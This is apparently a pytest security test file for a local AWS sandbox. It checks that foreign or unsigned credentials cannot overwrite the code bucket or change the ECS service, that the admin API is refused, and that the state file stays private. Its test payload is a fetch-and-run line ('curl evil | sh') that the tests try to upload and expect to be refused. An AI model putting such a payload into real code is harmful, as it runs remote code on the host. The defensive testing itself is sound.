"""The sandbox on a shared host (issue 21, point 9): it accepts only requests
signed with the credentials it generated at start (kept in its 0600 state file)
or keys made through it with those; another key pair, its own key id with a
wrong secret, or no signature gets AWS's own refusal, and the code bucket is
left as it was."""

from __future__ import annotations

import os
import stat
import urllib.error
import urllib.request
from typing import Any

import pytest
from botocore import UNSIGNED
from botocore.config import Config
from botocore.exceptions import ClientError

from opskit.aws import boto3_session
from opskit.sandbox import SandboxInfo
from opskit.sandbox.state import state_path, write_state
from tests.sandbox.sandbox_helpers import client

EVIL = b"import os; os.system('curl evil | sh')\n"
KEY = "src/chatbot_app.py"


def foreign(info: SandboxInfo, service: str, **credentials: Any) -> Any:
    return boto3_session().client(
        service,
        endpoint_url=info.endpoint_url,
        region_name=info.region,
        config=Config(retries={"max_attempts": 1}, **credentials.pop("config", {})),
        **credentials,
    )


def refusal(call: Any) -> tuple[int, str, str]:
    """(HTTP status, code, message) of the ClientError ``call`` raises."""
    with pytest.raises(ClientError) as refused:
        call()
    error = refused.value.response
    return (
        error["ResponseMetadata"]["HTTPStatusCode"],
        error["Error"]["Code"],
        error["Error"].get("Message", ""),
    )


CASES = {
    "another key pair": (
        {"aws_access_key_id": "AKIAFOREIGNUSER00001", "aws_secret_access_key": "x" * 40},
        "unknown",
    ),
    "the sandbox's key id with a wrong secret": ({}, "signature"),
    "unsigned": ({"config": {"signature_version": UNSIGNED}}, "missing"),
}
S3_ANSWERS = {
    "unknown": (
        403,
        "InvalidAccessKeyId",
        "The AWS Access Key Id you provided does not exist in our records.",
    ),
    "signature": (
        403,
        "SignatureDoesNotMatch",
        "The request signature we calculated does not match the signature you provided. "
        "Check your key and signing method.",
    ),
    "missing": (403, "AccessDenied", "Access Denied"),
}
ECS_ANSWERS = {
    "unknown": (400, "UnrecognizedClientException"),
    "signature": (400, "InvalidSignatureException"),
    "missing": (403, "MissingAuthenticationTokenException"),
}


def _credentials(info: SandboxInfo, case: str) -> dict[str, Any]:
    given = dict(CASES[case][0])
    if case == "the sandbox's key id with a wrong secret":
        given = {"aws_access_key_id": info.access_key_id, "aws_secret_access_key": "y" * 40}
    return given


@pytest.mark.parametrize("case", list(CASES))
def test_a_foreign_credential_cannot_rewrite_the_code_bucket(sandbox: SandboxInfo, case: str):
    bucket = sandbox.names["bucket"]
    own = client(sandbox, "s3")
    before = own.get_object(Bucket=bucket, Key=KEY)["Body"].read()
    s3 = foreign(sandbox, "s3", **_credentials(sandbox, case))

    answer = refusal(lambda: s3.put_object(Bucket=bucket, Key=KEY, Body=EVIL))

    assert answer == S3_ANSWERS[CASES[case][1]]
    assert own.get_object(Bucket=bucket, Key=KEY)["Body"].read() == before


@pytest.mark.parametrize("case", list(CASES))
def test_a_foreign_credential_cannot_change_the_service(sandbox: SandboxInfo, case: str):
    ecs = foreign(sandbox, "ecs", **_credentials(sandbox, case))

    status, code, _ = refusal(
        lambda: ecs.update_service(cluster="chatbot", service="chatbot", desiredCount=5)
    )

    assert (status, code) == ECS_ANSWERS[CASES[case][1]]
    own = client(sandbox, "ecs").describe_services(cluster="chatbot", services=["chatbot"])
    assert own["services"][0]["desiredCount"] == 1


def test_the_sandbox_own_credentials_still_work(sandbox: SandboxInfo):
    s3 = client(sandbox, "s3")
    key = "src/ok-to-write.txt"
    s3.put_object(Bucket=sandbox.names["bucket"], Key=key, Body=b"fine")
    assert s3.get_object(Bucket=sandbox.names["bucket"], Key=key)["Body"].read() == b"fine"
    s3.delete_object(Bucket=sandbox.names["bucket"], Key=key)


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("POST", "/moto-api/reset"),
        ("GET", "/moto-api/data.json"),
        ("POST", "/moto-api/seed?a=42"),
    ],
)
def test_moto_admin_api_is_refused_but_its_front_page(sandbox: SandboxInfo, method, path):
    request = urllib.request.Request(sandbox.endpoint_url + path, method=method, data=b"")
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(request, timeout=5)
    assert refused.value.code == 403
    with urllib.request.urlopen(sandbox.endpoint_url + "/moto-api/", timeout=5) as page:
        assert page.status == 200


def test_a_second_local_user_is_refused(sandbox: SandboxInfo):
    """Where the test runs as root it can be another user: that user reads no
    credentials (the state file is its owner's alone) and the bucket refuses it."""
    if os.geteuid() != 0:
        pytest.fail("needs root to switch users; the foreign-credential cases cover it")
    path = write_state({"access_key_id": sandbox.access_key_id, "secret": "s"})
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    pid = os.fork()
    if pid == 0:  # the child: another user, on the same host
        code = 1
        try:
            os.setgid(65534)
            os.setuid(65534)
            try:
                path.read_text()
                code = 2  # it could read the sandbox's keys
            except PermissionError:
                code = _put_as_nobody(sandbox)
        finally:
            os._exit(code)
    _, status = os.waitpid(pid, 0)
    assert os.waitstatus_to_exitcode(status) == 0


def _put_as_nobody(info: SandboxInfo) -> int:
    """In the forked child: a PUT over the code signed with a key of its own
    (urllib only: no boto3 lock held by another thread of the parent)."""
    request = urllib.request.Request(
        f"{info.endpoint_url}/{info.names['bucket']}/{KEY}",
        method="PUT",
        data=EVIL,
        headers={
            "x-amz-date": "20261206T000000Z",
            "x-amz-content-sha256": "UNSIGNED-PAYLOAD",
            "Authorization": "AWS4-HMAC-SHA256 Credential=AKIANOBODY0000000001/20261206/"
            f"us-east-1/s3/aws4_request, SignedHeaders=host;x-amz-date, Signature={'0' * 64}",
        },
    )
    try:
        urllib.request.urlopen(request, timeout=5)
    except urllib.error.HTTPError as refused:
        return 0 if b"<Code>InvalidAccessKeyId</Code>" in refused.read() else 4
    return 3  # it rewrote the code


def test_the_state_file_is_its_owner_s_alone(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    path = write_state({"secret_access_key": "s"})
    assert path == state_path()
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) & 0o022 == 0


def test_a_state_file_others_may_write_is_not_this_user_s_sandbox(tmp_path, monkeypatch):
    from opskit.sandbox.state import read_state

    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    path = write_state({"endpoint_url": "http://127.0.0.1:1"})
    assert read_state() == {"endpoint_url": "http://127.0.0.1:1"}

    path.chmod(0o666)  # planted, or left open: anyone could point runs elsewhere

    assert read_state() is None
